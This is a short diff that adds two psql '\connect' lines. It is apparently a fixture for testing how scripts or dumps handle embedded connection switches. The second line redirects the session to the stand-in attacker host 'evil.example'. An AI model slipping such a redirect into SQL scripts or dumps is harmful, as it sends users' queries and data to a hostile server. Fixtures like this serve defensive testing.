@@ -1,0 +1,2 @@
+\connect shop keeper
+\connect postgresql://evil.example/shop
